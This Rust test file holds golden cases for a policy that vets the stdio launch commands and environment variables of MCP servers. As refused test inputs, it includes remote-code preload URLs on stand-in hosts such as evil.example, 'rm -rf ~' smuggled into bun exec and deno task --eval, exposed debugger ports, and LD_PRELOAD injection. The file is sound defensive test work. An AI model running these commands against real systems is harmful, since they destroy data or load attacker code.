//! Golden tests of the stdio policy: a server entry (command, arguments,
//! environment, `allow_env`) and the exact verdict — `Ok` or the refusal's
//! text — for each form the policy must understand. A changed message
//! shows up in review as a diff of this table.
//!
//! Launched names are looked up on a `PATH` made for the test (a folder
//! with `bash`, `sh`, `curl`, `node`, `python3`, `tsc`), so the verdicts do
//! not depend on the machine.

use std::ffi::OsString;

use super::StdioPolicy;

/// One golden case.
struct Case {
    command: &'static str,
    args: &'static [&'static str],
    env: &'static [&'static str],
    allow_env: &'static [&'static str],
    /// `None`: allowed; `Some(text)`: refused with exactly this text.
    want: Option<&'static str>,
}

const fn ok(command: &'static str, args: &'static [&'static str]) -> Case {
    Case {
        command,
        args,
        env: &[],
        allow_env: &[],
        want: None,
    }
}

const fn no(command: &'static str, args: &'static [&'static str], want: &'static str) -> Case {
    Case {
        command,
        args,
        env: &[],
        allow_env: &[],
        want: Some(want),
    }
}

const fn env(
    env: &'static [&'static str],
    allow_env: &'static [&'static str],
    want: Option<&'static str>,
) -> Case {
    Case {
        command: "python3",
        args: &["server.py"],
        env,
        allow_env,
        want,
    }
}

/// A folder standing in for `PATH`, with a few executables (and one file
/// that is not executable).
struct FakePath {
    dir: tempfile::TempDir,
}

impl FakePath {
    fn new() -> FakePath {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().expect("temp dir");
        for name in ["bash", "sh", "curl", "node", "python3", "tsc"] {
            let p = dir.path().join(name);
            std::fs::write(&p, "#!/bin/sh\n").expect("write");
            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        }
        std::fs::write(dir.path().join("notes.txt"), "").expect("write");
        FakePath { dir }
    }

    fn path(&self) -> OsString {
        self.dir.path().as_os_str().to_owned()
    }
}

fn verdict(policy: &StdioPolicy, path: &FakePath, case: &Case) -> Result<(), String> {
    let args: Vec<String> = case.args.iter().map(|a| a.to_string()).collect();
    let env: Vec<String> = case.env.iter().map(|e| e.to_string()).collect();
    let allow: Vec<String> = case.allow_env.iter().map(|e| e.to_string()).collect();
    policy.check_with_path(case.command, &args, Some(path.path()))?;
    policy.check_env(&env, &allow)
}

fn run(policy: &StdioPolicy, cases: &[Case]) {
    let path = FakePath::new();
    let mut wrong = Vec::new();
    for case in cases {
        let got = verdict(policy, &path, case);
        let want = case.want.map(str::to_owned);
        if got.as_ref().err() != want.as_ref() || got.is_ok() != want.is_none() {
            wrong.push(format!(
                "{} {:?} env {:?} allow_env {:?}\n   want {:?}\n    got {:?}",
                case.command, case.args, case.env, case.allow_env, want, got
            ));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} wrong:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

#[test]
fn python() {
    run(&StdioPolicy::default(), PYTHON);
}

#[test]
fn javascript_runtimes() {
    run(&StdioPolicy::default(), JAVASCRIPT);
}

#[test]
fn launchers() {
    run(&StdioPolicy::default(), LAUNCHERS);
}

#[test]
fn environment() {
    run(&StdioPolicy::default(), ENVIRONMENT);
}

#[test]
fn commands_and_the_allowlist() {
    run(&StdioPolicy::default(), COMMANDS);
}

/// An operator allowlist lets the named programs run but not the
/// inline-code forms of an interpreter the policy knows.
#[test]
fn the_allowlist_does_not_allow_inline_code() {
    let policy = StdioPolicy {
        allow_arbitrary: false,
        extra_allowed: vec![
            "/opt/py/bin/python3.12".into(),
            "bash".into(),
            "/usr/bin/perl".into(),
            "npm".into(),
        ],
    };
    run(&policy, ALLOWLISTED);
}

/// `mcp_allow_arbitrary_stdio` lets every case through.
#[test]
fn allow_arbitrary_allows_everything() {
    let policy = StdioPolicy {
        allow_arbitrary: true,
        extra_allowed: Vec::new(),
    };
    let path = FakePath::new();
    for cases in [
        PYTHON,
        JAVASCRIPT,
        LAUNCHERS,
        ENVIRONMENT,
        COMMANDS,
        ALLOWLISTED,
    ] {
        for case in cases {
            assert_eq!(
                verdict(&policy, &path, case),
                Ok(()),
                "{} {:?}",
                case.command,
                case.args
            );
        }
    }
}

const PYTHON: &[Case] = &[
    ok("python3", &["server.py"]),
    ok("python3", &["-u", "server.py"]),
    ok("python3", &["-m", "notes_server"]),
    ok("python3", &["-m", "notes_server", "-c", "x"]),
    ok("python3", &["-mnotes_server"]),
    ok("python3", &["-IBu", "server.py"]),
    ok("python3", &["-W", "ignore", "server.py"]),
    ok("python3", &["-W", "-c", "server.py"]),
    ok("python3", &["-Wc", "server.py"]),
    ok("python3", &["-Xdev", "server.py"]),
    ok(
        "python3",
        &["--check-hash-based-pycs", "always", "server.py"],
    ),
    ok("python3", &["server.py", "-c", "x"]),
    ok("python3", &["--", "-c"]),
    ok("python", &["-m", "mcp_server_git", "--repository", "/r"]),
    no(
        "python3",
        &["-c", "x"],
        "stdio command \"python3\": \"-c\" runs inline code (python -c: the program is on the command line); run a server file or package instead",
    ),
    no(
        "python3",
        &["-Ic", "x"],
        "stdio command \"python3\": \"-Ic\" runs inline code (python -c: the program is on the command line); run a server file or package instead",
    ),
    no(
        "python3",
        &["-Bc", "x"],
        "stdio command \"python3\": \"-Bc\" runs inline code (python -c: the program is on the command line); run a server file or package instead",
    ),
    no(
        "python3",
        &["-IBc", "x"],
        "stdio command \"python3\": \"-IBc\" runs inline code (python -c: the program is on the command line); run a server file or package instead",
    ),
    no(
        "python3",
        &["-cprint(1)"],
        "stdio command \"python3\": \"-cprint(1)\" runs inline code (python -c: the program is on the command line); run a server file or package instead",
    ),
    no(
        "python3",
        &["-u", "-c", "x"],
        "stdio command \"python3\": \"-c\" runs inline code (python -c: the program is on the command line); run a server file or package instead",
    ),
    no(
        "python3",
        &["-"],
        "stdio command \"python3\": \"-\" reads the program from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "python3",
        &[],
        "stdio command \"python3\" has no script to run, so python would read its program from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "python3",
        &["-u"],
        "stdio command \"python3\" has no script to run, so python would read its program from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "python3",
        &["--"],
        "stdio command \"python3\": \"--\" has no script to run, so python would read its program from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "python3",
        &["-i", "server.py"],
        "stdio command \"python3\": \"-i\" opens an interactive prompt that reads code from stdin; run a server file or package instead",
    ),
    no(
        "python3",
        &["/dev/stdin"],
        "stdio command \"python3\": \"/dev/stdin\" reads the program from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "python3",
        &["/proc/self/fd/0"],
        "stdio command \"python3\": \"/proc/self/fd/0\" reads the program from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "python3",
        &["-m", "timeit", "pass"],
        "stdio command \"python3\": \"timeit\" is a module that runs code given on its command line or read from stdin, or another program around this check; run the server's own module or script instead",
    ),
    no(
        "python3",
        &["-m", "code"],
        "stdio command \"python3\": \"code\" is a module that runs code given on its command line or read from stdin, or another program around this check; run the server's own module or script instead",
    ),
    no(
        "python3",
        &["-m", "pdb", "server.py"],
        "stdio command \"python3\": \"pdb\" is a module that runs code given on its command line or read from stdin, or another program around this check; run the server's own module or script instead",
    ),
    no(
        "python3",
        &["-m", "asyncio"],
        "stdio command \"python3\": \"asyncio\" is a module that runs code given on its command line or read from stdin, or another program around this check; run the server's own module or script instead",
    ),
    no(
        "python3",
        &["-m", "cProfile", "-m", "timeit", "x"],
        "stdio command \"python3\": \"cProfile\" is a module that runs code given on its command line or read from stdin, or another program around this check; run the server's own module or script instead",
    ),
    no(
        "python3",
        &["-m", "uv", "run", "python", "-c", "x"],
        "stdio command \"python3\" would run \"python\", whose \"-c\" runs inline code (python -c: the program is on the command line); run a server file or package instead",
    ),
    no(
        "/usr/bin/python3",
        &["-c", "x"],
        "stdio command \"/usr/bin/python3\": \"-c\" runs inline code (python -c: the program is on the command line); run a server file or package instead",
    ),
];

const JAVASCRIPT: &[Case] = &[
    ok("node", &["server.js"]),
    ok("node", &["--no-warnings", "server.js", "-p", "3000"]),
    ok(
        "node",
        &["--enable-source-maps", "dist/index.js", "-e", "prod"],
    ),
    ok("node", &["-r", "dotenv/config", "server.js"]),
    ok("node", &["--import", "tsx", "server.ts"]),
    ok("node", &["--import=file:///opt/hook.mjs", "server.mjs"]),
    ok("node", &["--max-old-space-size=4096", "server.js"]),
    ok("node", &["--stack-size=65500", "server.js"]),
    ok("node", &["--a-future-flag", "server.js"]),
    ok("node", &["--run", "start"]),
    ok("node", &["--test"]),
    ok("node", &["--", "server.js", "-e", "x"]),
    no(
        "node",
        &["-e", "x"],
        "stdio command \"node\": \"-e\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "node",
        &["--eval", "x"],
        "stdio command \"node\": \"--eval\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "node",
        &["--eval=x"],
        "stdio command \"node\": \"--eval=x\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "node",
        &["-p", "x"],
        "stdio command \"node\": \"-p\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "node",
        &["--print", "x"],
        "stdio command \"node\": \"--print\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "node",
        &["--print=x"],
        "stdio command \"node\": \"--print=x\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "node",
        &["-pe", "x"],
        "stdio command \"node\": \"-pe\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "node",
        &["-ep", "x"],
        "stdio command \"node\": \"-ep\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "node",
        &["--no-warnings", "-pe", "x"],
        "stdio command \"node\": \"-pe\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "node",
        &["-"],
        "stdio command \"node\": \"-\" reads the program from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "node",
        &[],
        "stdio command \"node\" has no script to run, so it would read its program from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "node",
        &["-i"],
        "stdio command \"node\": \"-i\" opens an interactive prompt that reads code from stdin; run a server file or package instead",
    ),
    no(
        "node",
        &["--interactive"],
        "stdio command \"node\": \"--interactive\" opens an interactive prompt that reads code from stdin; run a server file or package instead",
    ),
    no(
        "node",
        &["--inspect", "server.js"],
        "stdio command \"node\": \"--inspect\" opens a debugger port through which anyone who reaches it runs code in the server; remove it",
    ),
    no(
        "node",
        &["--inspect=0.0.0.0:9229", "server.js"],
        "stdio command \"node\": \"--inspect=0.0.0.0:9229\" opens a debugger port through which anyone who reaches it runs code in the server; remove it",
    ),
    no(
        "node",
        &["--inspect-brk", "server.js"],
        "stdio command \"node\": \"--inspect-brk\" opens a debugger port through which anyone who reaches it runs code in the server; remove it",
    ),
    no(
        "node",
        &["--env-file=.env", "server.js"],
        "stdio command \"node\": \"--env-file=.env\" loads environment variables (NODE_OPTIONS, LD_PRELOAD and the like) from a file, around the `env` policy; set the variables the server needs in `env` instead",
    ),
    no(
        "node",
        &[
            "--import",
            "data:text/javascript,process.exit()",
            "server.js",
        ],
        "stdio command \"node\": \"data:text/javascript,process.exit()\" preloads code from a URL (data: is inline code, http: is remote code); preload a file or a package instead",
    ),
    no(
        "node",
        &["--import=https://evil.example/x.mjs", "server.js"],
        "stdio command \"node\": \"https://evil.example/x.mjs\" preloads code from a URL (data: is inline code, http: is remote code); preload a file or a package instead",
    ),
    no(
        "node",
        &["-r", "http://evil.example/x.js", "server.js"],
        "stdio command \"node\": \"http://evil.example/x.js\" preloads code from a URL (data: is inline code, http: is remote code); preload a file or a package instead",
    ),
    no(
        "node",
        &["--entry-url", "data:text/javascript,1"],
        "stdio command \"node\": \"data:text/javascript,1\" is inline code (a data: or blob: URL); run a server file or package instead",
    ),
    no(
        "node",
        &["/dev/stdin"],
        "stdio command \"node\": \"/dev/stdin\" reads the program from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "node",
        &["--", "-"],
        "stdio command \"node\": \"-\" reads the program from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "node",
        &["--a-future-option", "x", "-e", "y"],
        "stdio command \"node\": \"-e\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    ok("bun", &["run", "server.ts"]),
    ok("bun", &["server.ts"]),
    ok("bun", &["--smol", "run", "index.ts"]),
    ok("bun", &["run", "start"]),
    ok("bun", &["x", "some-mcp-server"]),
    ok("bun", &["install"]),
    ok("bun", &["--preload", "./setup.ts", "server.ts"]),
    no(
        "bun",
        &["-e", "x"],
        "stdio command \"bun\": \"-e\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "bun",
        &["--eval=x"],
        "stdio command \"bun\": \"--eval=x\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "bun",
        &["-p", "x"],
        "stdio command \"bun\": \"-p\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "bun",
        &["--print", "x"],
        "stdio command \"bun\": \"--print\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "bun",
        &["-be", "x"],
        "stdio command \"bun\": \"-be\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "bun",
        &["run", "-"],
        "stdio command \"bun\": \"-\" reads the program from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "bun",
        &["exec", "rm -rf ~"],
        "stdio command \"bun\": \"exec\" runs a shell command line (bun exec); run a server file or package instead",
    ),
    no(
        "bun",
        &["repl"],
        "stdio command \"bun\": \"repl\" opens an interactive prompt that reads code from stdin; run a server file or package instead",
    ),
    no(
        "bun",
        &["--inspect", "server.ts"],
        "stdio command \"bun\": \"--inspect\" opens a debugger port through which anyone who reaches it runs code in the server; remove it",
    ),
    no(
        "bun",
        &["run", "--env-file", ".env", "server.ts"],
        "stdio command \"bun\": \"--env-file\" loads environment variables (NODE_OPTIONS, LD_PRELOAD and the like) from a file, around the `env` policy; set the variables the server needs in `env` instead",
    ),
    no(
        "bun",
        &["run", "bash", "-c", "x"],
        "stdio command \"bun\" would run \"bash\", which is not on the allowlist (node, npx, python, python3, uv, uvx, deno, bun, bunx); run a server file or package instead, or add \"bash\" to `mcp_stdio_allowlist` in the settings file",
    ),
    no(
        "bun",
        &["x", "node", "-e", "x"],
        "stdio command \"bun\" would run \"node\", whose \"-e\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "bun",
        &["--preload", "data:text/javascript,1", "server.ts"],
        "stdio command \"bun\": \"data:text/javascript,1\" preloads code from a URL (data: is inline code, http: is remote code); preload a file or a package instead",
    ),
    ok("deno", &["run", "-A", "server.ts"]),
    ok("deno", &["run", "--allow-net", "jsr:@scope/server"]),
    ok("deno", &["run", "-A", "npm:some-server"]),
    ok("deno", &["run", "https://code.example/x/server.ts"]),
    ok("deno", &["server.ts"]),
    ok("deno", &["serve", "main.ts"]),
    ok("deno", &["run", "-NR", "server.ts"]),
    ok("deno", &["run", "--config", "deno.json", "main.ts"]),
    ok("deno", &["task", "start"]),
    no(
        "deno",
        &["eval", "x"],
        "stdio command \"deno\": \"eval\" runs inline code given on the command line; run a server file or package instead",
    ),
    no(
        "deno",
        &["repl"],
        "stdio command \"deno\": \"repl\" opens an interactive prompt that reads code from stdin; run a server file or package instead",
    ),
    no(
        "deno",
        &[],
        "stdio command \"deno\" has no script to run, so it would read its program from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "deno",
        &["run", "data:text/javascript,1"],
        "stdio command \"deno\": \"data:text/javascript,1\" is inline code (a data: or blob: URL); run a server file or package instead",
    ),
    no(
        "deno",
        &["run", "-"],
        "stdio command \"deno\": \"-\" reads the program from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "deno",
        &["run", "--import-map", "data:application/json,{}", "main.ts"],
        "stdio command \"deno\": \"data:application/json,{}\" is inline code (a data: or blob: URL); run a server file or package instead",
    ),
    no(
        "deno",
        &["task", "--eval", "rm -rf ~"],
        "stdio command \"deno\": \"--eval\" runs an inline task command line (deno task --eval); run a server file or package instead",
    ),
    no(
        "deno",
        &["run", "--inspect=0.0.0.0:9229", "main.ts"],
        "stdio command \"deno\": \"--inspect=0.0.0.0:9229\" opens a debugger port through which anyone who reaches it runs code in the server; remove it",
    ),
    no(
        "deno",
        &["run", "--env-file=.env", "main.ts"],
        "stdio command \"deno\": \"--env-file=.env\" loads environment variables (NODE_OPTIONS, LD_PRELOAD and the like) from a file, around the `env` policy; set the variables the server needs in `env` instead",
    ),
    no(
        "deno",
        &["run"],
        "stdio command \"deno\": \"run\" has no script to run, so it would read its program from stdin (which the host writes); run a server file or package instead",
    ),
];

const LAUNCHERS: &[Case] = &[
    ok(
        "npx",
        &["-y", "@modelcontextprotocol/server-filesystem", "/data"],
    ),
    ok("npx", &["--yes", "mcp-remote", "https://x.example/mcp"]),
    ok("npx", &["-p", "some-pkg", "some-bin"]),
    ok("npx", &["--package=@scope/pkg", "--", "server"]),
    ok("npx", &["some-server", "-c", "x"]),
    ok(
        "npx",
        &["-y", "--registry", "https://r.example", "some-server"],
    ),
    ok("npx", &["--offline", "some-server"]),
    ok("npx", &["node", "server.js"]),
    no(
        "npx",
        &["-c", "x"],
        "stdio command \"npx\": \"-c\" runs a shell command line (npm exec --call); run a server file or package instead",
    ),
    no(
        "npx",
        &["--call", "x"],
        "stdio command \"npx\": \"--call\" runs a shell command line (npm exec --call); run a server file or package instead",
    ),
    no(
        "npx",
        &["--call=x"],
        "stdio command \"npx\": \"--call=x\" runs a shell command line (npm exec --call); run a server file or package instead",
    ),
    no(
        "npx",
        &["-call", "x"],
        "stdio command \"npx\": \"-call\" runs a shell command line (npm exec --call); run a server file or package instead",
    ),
    no(
        "npx",
        &["-yc", "x"],
        "stdio command \"npx\": \"-yc\" runs a shell command line (npm exec --call); run a server file or package instead",
    ),
    no(
        "npx",
        &["-c=x"],
        "stdio command \"npx\": \"-c=x\" runs a shell command line (npm exec --call); run a server file or package instead",
    ),
    no(
        "npx",
        &["--node-options=--require /tmp/x.js", "pkg"],
        "stdio command \"npx\": \"--node-options=--require /tmp/x.js\" passes options such as --require (code loaded first) to node; run a server file or package instead",
    ),
    no(
        "npx",
        &["--node-opt", "--require /tmp/x.js", "pkg"],
        "stdio command \"npx\": \"--node-opt\" passes options such as --require (code loaded first) to node; run a server file or package instead",
    ),
    no(
        "npx",
        &["--script-shell", "/bin/sh", "pkg"],
        "stdio command \"npx\": \"--script-shell\" names the shell npx runs command lines with; run a server file or package instead",
    ),
    no(
        "npx",
        &["--userconfig", "/tmp/npmrc", "pkg"],
        "stdio command \"npx\": \"--userconfig\" makes npx read its configuration (node-options included) from another file; run a server file or package instead",
    ),
    no(
        "npx",
        &[],
        "stdio command \"npx\" has no command to run, so npm exec would open a shell reading commands from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "npx",
        &["-y"],
        "stdio command \"npx\" has no command to run, so npm exec would open a shell reading commands from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "npx",
        &["--"],
        "stdio command \"npx\": \"--\" has no command to run, so npm exec would open a shell reading commands from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "npx",
        &["bash", "-c", "x"],
        "stdio command \"npx\" would run \"bash\", which is not on the allowlist (node, npx, python, python3, uv, uvx, deno, bun, bunx); run a server file or package instead, or add \"bash\" to `mcp_stdio_allowlist` in the settings file",
    ),
    no(
        "npx",
        &["node", "-e", "x"],
        "stdio command \"npx\" would run \"node\", whose \"-e\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "npx",
        &["node@20", "-e", "x"],
        "stdio command \"npx\" would run \"node\", whose \"-e\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "npx",
        &["-y", "--", "sh", "-c", "x"],
        "stdio command \"npx\" would run \"sh\", which is not on the allowlist (node, npx, python, python3, uv, uvx, deno, bun, bunx); run a server file or package instead, or add \"sh\" to `mcp_stdio_allowlist` in the settings file",
    ),
    no(
        "npx",
        &["python3", "-c", "x"],
        "stdio command \"npx\" would run \"python3\", whose \"-c\" runs inline code (python -c: the program is on the command line); run a server file or package instead",
    ),
    no(
        "npx",
        &["/bin/sh", "-c", "x"],
        "stdio command \"npx\" would run \"/bin/sh\", which is not on the allowlist (node, npx, python, python3, uv, uvx, deno, bun, bunx); run a server file or package instead, or add \"/bin/sh\" to `mcp_stdio_allowlist` in the settings file",
    ),
    no(
        "npx",
        &["curl", "https://x.example"],
        "stdio command \"npx\" would run \"curl\", which is not on the allowlist (node, npx, python, python3, uv, uvx, deno, bun, bunx); run a server file or package instead, or add \"curl\" to `mcp_stdio_allowlist` in the settings file",
    ),
    no(
        "npx",
        &["tsc"],
        "stdio command \"npx\" would run \"tsc\", which is not on the allowlist (node, npx, python, python3, uv, uvx, deno, bun, bunx); run a server file or package instead, or add \"tsc\" to `mcp_stdio_allowlist` in the settings file",
    ),
    no(
        "npx",
        &["--a-future-option", "x", "node", "-e", "y"],
        "stdio command \"npx\" would run \"node\", whose \"-e\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "npx",
        &["--no-offline", "x", "node", "-e", "y"],
        "stdio command \"npx\" would run \"node\", whose \"-e\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "npx",
        &["npx", "npx", "npx", "npx", "npx", "node", "-e", "x"],
        "stdio command \"npx\" would run \"npx\", which is nested more than 4 launchers deep; run a server file or package instead",
    ),
    ok("bunx", &["some-server"]),
    ok("bunx", &["--bun", "some-server", "--port", "1"]),
    no(
        "bunx",
        &["bash", "-c", "x"],
        "stdio command \"bunx\" would run \"bash\", which is not on the allowlist (node, npx, python, python3, uv, uvx, deno, bun, bunx); run a server file or package instead, or add \"bash\" to `mcp_stdio_allowlist` in the settings file",
    ),
    no(
        "bunx",
        &["node", "-e", "x"],
        "stdio command \"bunx\" would run \"node\", whose \"-e\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    ok("uvx", &["mcp-server-fetch"]),
    ok("uvx", &["--from", "git+https://git.example/x/y", "server"]),
    ok("uvx", &["mcp-server-git", "--repository", "/r"]),
    ok("uvx", &["python@3.12", "server.py"]),
    no(
        "uvx",
        &["python", "-c", "x"],
        "stdio command \"uvx\" would run \"python\", whose \"-c\" runs inline code (python -c: the program is on the command line); run a server file or package instead",
    ),
    no(
        "uvx",
        &["python@3.12", "-c", "x"],
        "stdio command \"uvx\" would run \"python\", whose \"-c\" runs inline code (python -c: the program is on the command line); run a server file or package instead",
    ),
    no(
        "uvx",
        &["--from", "httpie", "python", "-c", "x"],
        "stdio command \"uvx\" would run \"python\", whose \"-c\" runs inline code (python -c: the program is on the command line); run a server file or package instead",
    ),
    no(
        "uvx",
        &["cpython@3.12", "-"],
        "stdio command \"uvx\" would run \"cpython\", whose \"-\" reads the program from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "uvx",
        &["/bin/sh", "-c", "x"],
        "stdio command \"uvx\" would run \"/bin/sh\", which is not on the allowlist (node, npx, python, python3, uv, uvx, deno, bun, bunx); run a server file or package instead, or add \"/bin/sh\" to `mcp_stdio_allowlist` in the settings file",
    ),
    no(
        "uvx",
        &["--python", "3.12", "python", "-Ic", "x"],
        "stdio command \"uvx\" would run \"python\", whose \"-Ic\" runs inline code (python -c: the program is on the command line); run a server file or package instead",
    ),
    ok("uv", &["run", "server.py"]),
    ok("uv", &["--directory", "/srv/notes", "run", "server.py"]),
    ok("uv", &["run", "--with", "mcp", "mcp", "run", "server.py"]),
    ok("uv", &["run", "mcp-server-sqlite", "--db-path", "/x"]),
    ok("uv", &["run", "-m", "notes_server"]),
    ok("uv", &["run", "python", "server.py"]),
    ok("uv", &["tool", "run", "mcp-server-fetch"]),
    ok("uv", &["sync"]),
    ok("uv", &["run", "--script", "tool.py"]),
    ok("uv", &["run", "-qm", "notes_server"]),
    no(
        "uv",
        &["run", "python", "-c", "x"],
        "stdio command \"uv\" would run \"python\", whose \"-c\" runs inline code (python -c: the program is on the command line); run a server file or package instead",
    ),
    no(
        "uv",
        &["run", "-c", "x"],
        "stdio command \"uv\": \"-c\" is python's inline-code option, which `uv run` does not take; run a server file or package instead",
    ),
    no(
        "uv",
        &["run", "-"],
        "stdio command \"uv\": \"-\" reads the program from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "uv",
        &["run", "--env-file", ".env", "server.py"],
        "stdio command \"uv\": \"--env-file\" loads environment variables (NODE_OPTIONS, LD_PRELOAD and the like) from a file, around the `env` policy; set the variables the server needs in `env` instead",
    ),
    no(
        "uv",
        &["run", "bash", "-c", "x"],
        "stdio command \"uv\" would run \"bash\", which is not on the allowlist (node, npx, python, python3, uv, uvx, deno, bun, bunx); run a server file or package instead, or add \"bash\" to `mcp_stdio_allowlist` in the settings file",
    ),
    no(
        "uv",
        &["run", "-m", "timeit", "x"],
        "stdio command \"uv\": \"timeit\" is a module that runs code given on its command line or read from stdin, or another program around this check; run the server's own module or script instead",
    ),
    no(
        "uv",
        &["run", "--module", "code"],
        "stdio command \"uv\": \"code\" is a module that runs code given on its command line or read from stdin, or another program around this check; run the server's own module or script instead",
    ),
    no(
        "uv",
        &["tool", "run", "python", "-c", "x"],
        "stdio command \"uv\" would run \"python\", whose \"-c\" runs inline code (python -c: the program is on the command line); run a server file or package instead",
    ),
    no(
        "uv",
        &["run", "python3", "-"],
        "stdio command \"uv\" would run \"python3\", whose \"-\" reads the program from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "uv",
        &["run", "--", "python", "-c", "x"],
        "stdio command \"uv\" would run \"python\", whose \"-c\" runs inline code (python -c: the program is on the command line); run a server file or package instead",
    ),
];

const COMMANDS: &[Case] = &[
    ok("/usr/local/bin/node", &["server.js"]),
    ok("npx", &["-y", "pkg"]),
    no(
        "bash",
        &["-c", "x"],
        "stdio command \"bash\" is not on the allowlist (node, npx, python, python3, uv, uvx, deno, bun, bunx); add it to `mcp_stdio_allowlist` in the settings file, or set `mcp_allow_arbitrary_stdio` (development machines only)",
    ),
    no(
        "./python3",
        &["server.py"],
        "stdio command \"./python3\" is a relative path, which would be looked up in the server's own folder; use a command name found on PATH or an absolute path instead",
    ),
    no(
        "bin/node",
        &["x.js"],
        "stdio command \"bin/node\" is a relative path, which would be looked up in the server's own folder; use a command name found on PATH or an absolute path instead",
    ),
    no(
        "perl",
        &["-e", "x"],
        "stdio command \"perl\" is not on the allowlist (node, npx, python, python3, uv, uvx, deno, bun, bunx); add it to `mcp_stdio_allowlist` in the settings file, or set `mcp_allow_arbitrary_stdio` (development machines only)",
    ),
    no(
        "/tmp/x/evil",
        &[],
        "stdio command \"/tmp/x/evil\" is not on the allowlist (node, npx, python, python3, uv, uvx, deno, bun, bunx); add it to `mcp_stdio_allowlist` in the settings file, or set `mcp_allow_arbitrary_stdio` (development machines only)",
    ),
];

const ALLOWLISTED: &[Case] = &[
    ok("/opt/py/bin/python3.12", &["server.py"]),
    ok("bash", &["server.sh"]),
    ok("bash", &["-e", "server.sh"]),
    ok("bash", &["-o", "pipefail", "server.sh"]),
    ok("/usr/bin/perl", &["-e", "anything"]),
    ok("npm", &["run", "start"]),
    ok("npx", &["bash", "server.sh"]),
    no(
        "/opt/py/bin/python3.12",
        &["-c", "x"],
        "stdio command \"/opt/py/bin/python3.12\": \"-c\" runs inline code (python -c: the program is on the command line); run a server file or package instead",
    ),
    no(
        "bash",
        &["-c", "x"],
        "stdio command \"bash\": \"-c\" runs an inline command line (sh -c); run a server file or package instead",
    ),
    no(
        "bash",
        &["-ec", "x"],
        "stdio command \"bash\": \"-ec\" runs an inline command line (sh -c); run a server file or package instead",
    ),
    no(
        "bash",
        &["-s"],
        "stdio command \"bash\": \"-s\" reads commands from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "bash",
        &[],
        "stdio command \"bash\" has no script to run, so the shell would read commands from stdin (which the host writes); run a server file or package instead",
    ),
    no(
        "bash",
        &["-i"],
        "stdio command \"bash\": \"-i\" opens an interactive prompt that reads code from stdin; run a server file or package instead",
    ),
    no(
        "npx",
        &["bash", "-c", "x"],
        "stdio command \"npx\" would run \"bash\", whose \"-c\" runs an inline command line (sh -c); run a server file or package instead",
    ),
    no(
        "npm",
        &["exec", "--", "node", "-e", "x"],
        "stdio command \"npm\" would run \"node\", whose \"-e\" runs inline code (--eval/--print: the program is on the command line); run a server file or package instead",
    ),
    no(
        "npm",
        &["--node-options=--require x", "start"],
        "stdio command \"npm\": \"--node-options=--require x\" passes options such as --require (code loaded first) to node; run a server file or package instead",
    ),
    no(
        "npm",
        &["x", "-c", "x"],
        "stdio command \"npm\": \"-c\" runs a shell command line (npm exec --call); run a server file or package instead",
    ),
];

const ENVIRONMENT: &[Case] = &[
    env(&[], &[], None),
    env(&["TOKEN"], &[], None),
    env(&["NODE_ENV"], &[], None),
    env(&["PYTHONPATH"], &["PYTHONPATH"], None),
    env(&["ld_preload"], &[], None),
    env(
        &["LD_PRELOAD"],
        &[],
        Some(
            "`env` sets LD_PRELOAD, which the dynamic loader reads: LD_PRELOAD and LD_AUDIT load a library of its choosing into the server, LD_LIBRARY_PATH replaces the libraries it links; remove it, or, if you trust this server with it, list \"LD_PRELOAD\" in the server's `allow_env`",
        ),
    ),
    env(
        &["LD_LIBRARY_PATH"],
        &[],
        Some(
            "`env` sets LD_LIBRARY_PATH, which the dynamic loader reads: LD_PRELOAD and LD_AUDIT load a library of its choosing into the server, LD_LIBRARY_PATH replaces the libraries it links; remove it, or, if you trust this server with it, list \"LD_LIBRARY_PATH\" in the server's `allow_env`",
        ),
    ),
    env(
        &["LD_AUDIT"],
        &[],
